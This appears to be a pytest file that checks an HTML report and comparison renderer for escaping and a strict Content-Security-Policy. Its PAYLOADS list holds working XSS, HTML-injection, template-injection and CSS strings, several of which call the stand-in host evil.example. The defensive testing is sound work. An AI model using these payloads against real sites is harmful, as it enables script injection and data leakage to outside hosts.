"""Hostile titles, abstracts, answers and questions in a report and in a comparison are text, and nothing else."""

from __future__ import annotations

import base64
import hashlib
import re
from pathlib import Path

import pytest
from lxml import html as parser
from report_runs import answer, comparing, outcome, page_of, stored, verdict

from assistant.render import plain

HIT = "window.hit=(window.hit||0)+1"
PAYLOADS = (
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</textarea></select><svg onload={HIT}>",
    f'<img src=x onerror="{HIT}">',
    f'"><svg/onload="{HIT}">',
    f"' onfocus='{HIT}' autofocus tabindex=1 x='",
    f'" onmouseover="{HIT}" style="position:fixed;inset:0" x="',
    f'<a href="javascript:{HIT}">lantern</a>',
    f"[lantern](javascript:{HIT})",
    '<img src="http://evil.example/pixel.png">',
    "![lantern](http://evil.example/pixel.png)",
    '<link rel="stylesheet" href="//evil.example/a.css">',
    "<style>@import 'http://evil.example/a.css'; body{display:none}</style>",
    "}} *{background:url(http://evil.example/a.png)} /*",
    f"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}} ${{{HIT}}} `lantern`",
    "{% for x in range(10**9) %}x{% endfor %} {# #}",
    '<form action="http://evil.example/"><input name=q autofocus></form>',
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<object data="http://evil.example/x.swf"></object><embed src="//evil.example/x">',
    f"</p></li></details><details open ontoggle={HIT}>",
    f"<!--><svg onload={HIT}>-->",
    f"<![CDATA[<img src=x onerror={HIT}>]]>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={HIT}></style></mglyph></math>",
    "\u202e\u2066evil\u2069 \u200b\x1b]0;owned\x07\x00 \ud800 \U000e0041 \u2028",
)
TAGS = set(
    """html head meta title style body a main header h1 h2 h3 h4 p span section div b svg rect line polyline polygon
    circle text figure figcaption details summary table thead tbody tr th td form label input select option button
    output ol ul li blockquote footer dl dt dd script""".split()
)


def hostile(number: int, payload: str) -> dict:
    """An outcome every text of which is the payload."""
    titles = {f"{name} {payload}": f"{name} {payload}" for name in ("paper", "other")}
    said = answer(f"Lantern {payload}.", f"Beacon {payload}", titles=titles, missing=payload, model=payload)
    for paper in said["papers"]:
        paper["url"] = f"https://example.org/{payload}" if number % 2 else f"javascript:{HIT}"
    said["sentences"][1]["block"] = "bullet"
    said["sentences"][0]["reasons"] = [payload]
    judged = [{**verdict(0), "reasons": [payload]}, verdict(1, "contradicted")]
    gold = [{"gold": payload, "paper_id": None, "rank": None}]
    facts = [{"fact": [payload], "found": False, "past_budget": False}]
    return outcome(
        f"q{number} {payload}",
        said,
        type=f"kind {payload}",
        question=f"What? {payload}",
        gold_answer=payload,
        history=[{"role": payload, "content": payload}],
        scores={"supported": 0.5, "required_facts": number % 3 / 2, f"own {payload}": 1.0},
        details={"sentences": judged, "gold": gold, "facts": facts, "stages": {payload: 0.1 + number}},
    )


def down(number: int, payload: str) -> dict:
    """A failed one, whose error is the payload."""
    failed = outcome(f"down{number}", type=payload)
    failed["error"] |= {"message": payload, "cure": payload}
    failed["reasons"] |= dict.fromkeys(failed["reasons"], payload)
    return failed


def attacked() -> list[dict]:
    """Outcomes of all payloads."""
    return [make(i, payload) for i, payload in enumerate(PAYLOADS) for make in (hostile, down)]


def hostile_page() -> str:
    """A report on them, of a run whose settings attack as well."""
    return page_of(
        attacked(),
        settings={"base_url": PAYLOADS[0]},
        identity={"corpus": PAYLOADS[5], "model": {PAYLOADS[6]: PAYLOADS[7]}},
    )


def hostile_comparison(folder: Path) -> str:
    """Two such runs compared, in which every question flipped."""
    changed = attacked()
    for one in changed:
        if one["answer"]:
            one["scores"] |= {"supported": 1.0, "required_facts": 0.25}
    a, b = stored(folder / "a", attacked()), stored(folder / "b", changed, settings={"mode": PAYLOADS[1]})
    return str(comparing.compare(a, b).html())


@pytest.fixture(scope="module", params=["report", "comparison"])
def page(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> str:
    return hostile_page() if request.param == "report" else hostile_comparison(tmp_path_factory.mktemp("runs"))


def test_no_element_and_no_attribute_is_made_of_what_others_wrote(page: str):
    assert len(PAYLOADS) >= 20
    elements = list(parser.fromstring(page).iter())
    assert all(isinstance(one.tag, str) for one in elements)  # no comments, no processing instructions
    assert {one.tag for one in elements} <= TAGS
    for one in elements:
        for name, value in one.attrib.items():
            assert not name.startswith("on") and name not in ("style", "src", "srcdoc", "action", "formaction"), name
            assert name != "href" or re.fullmatch(r"#\w+|https?://[^\s<>\"'()]+", value), value
            assert name != "http-equiv" or value == "Content-Security-Policy"
    tree = parser.fromstring(page)
    counts = {path: len(tree.xpath(path)) for path in ("//script", "//style", "//head/title", "//meta", "//body")}
    assert counts == {"//script": 1, "//style": 1, "//head/title": 1, "//meta": 5, "//body": 1}


def test_the_policy_lets_nothing_in_but_the_one_style_and_the_one_script(page: str):
    tree = parser.fromstring(page)
    (policy,) = tree.xpath('//meta[@http-equiv="Content-Security-Policy"]/@content')
    rules = dict(rule.split(" ", 1) for rule in policy.split("; "))
    hashes = {
        name: f"'sha256-{base64.b64encode(hashlib.sha256(tree.xpath(f'//{name}')[0].text.encode()).digest()).decode()}'"
        for name in ("style", "script")
    }
    none = dict.fromkeys(("default-src", "base-uri", "form-action"), "'none'")
    assert rules == {**none, "style-src": hashes["style"], "script-src": hashes["script"]}
    assert page.index("Content-Security-Policy") < page.index("<style") < page.index("<script")


def test_what_was_written_can_be_read_and_what_steers_the_eye_is_gone(page: str):
    text = " ".join(parser.fromstring(page).text_content().split())
    for payload in PAYLOADS:
        assert " ".join(plain(payload).split()) in text
    assert page == plain(page)
    assert page.encode().decode() == page
